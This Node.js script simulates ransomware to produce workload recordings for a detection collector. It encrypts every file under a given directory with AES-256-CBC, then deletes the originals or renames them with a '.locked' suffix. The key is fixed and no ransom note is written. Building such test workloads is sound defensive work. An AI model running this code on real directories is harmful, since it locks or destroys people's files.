// A ransomware-like tool in Node for threatlens's collector recordings: AES-256-CBC through Node's crypto, whose
// OpenSSL is linked into the node binary (no libcrypto uprobe sees it: no encrypt events), with N files in flight
// at once on libuv's thread pool. Run it only on a generated tree.
//
//   node noderansom.mjs DIR [newfile|inplace] [concurrency]
//
// Writes {"encrypted", "deleted", "renamed", "notes", "bytes"} to $WORKLOAD_REPORT (or stdout).
import { createCipheriv, randomBytes } from "node:crypto";
import { readdir, readFile, rename, unlink, writeFile } from "node:fs/promises";
import { join } from "node:path";

const [dir, mode = "newfile", concurrencyText = "8"] = process.argv.slice(2);
if (!dir) {
  console.error("usage: node noderansom.mjs DIR [newfile|inplace] [concurrency]");
  process.exit(2);
}
const key = Buffer.alloc(32, 5);

async function* walk(path) {
  for (const entry of await readdir(path, { withFileTypes: true })) {
    const full = join(path, entry.name);
    if (entry.isDirectory()) yield* walk(full);
    else if (entry.isFile() && !entry.name.endsWith(".locked")) yield full;
  }
}

const report = { encrypted: 0, deleted: 0, renamed: 0, notes: 0, bytes: 0 };
async function encrypt(path) {
  const data = await readFile(path);
  const iv = randomBytes(16);
  const cipher = createCipheriv("aes-256-cbc", key, iv);
  const sealed = Buffer.concat([iv, cipher.update(data), cipher.final()]);
  if (mode === "inplace") {
    await writeFile(path, sealed);
    await rename(path, `${path}.locked`);
    report.renamed++;
  } else {
    await writeFile(`${path}.locked`, sealed);
    await unlink(path);
    report.deleted++;
  }
  report.encrypted++;
  report.bytes += data.length;
}

const files = [];
for await (const file of walk(dir)) files.push(file);
files.sort();
let next = 0;
await Promise.all(
  Array.from({ length: Number(concurrencyText) }, async () => {
    while (next < files.length) await encrypt(files[next++]);
  }),
);
const text = `${JSON.stringify(report)}\n`;
if (process.env.WORKLOAD_REPORT) await writeFile(process.env.WORKLOAD_REPORT, text);
else process.stdout.write(text);
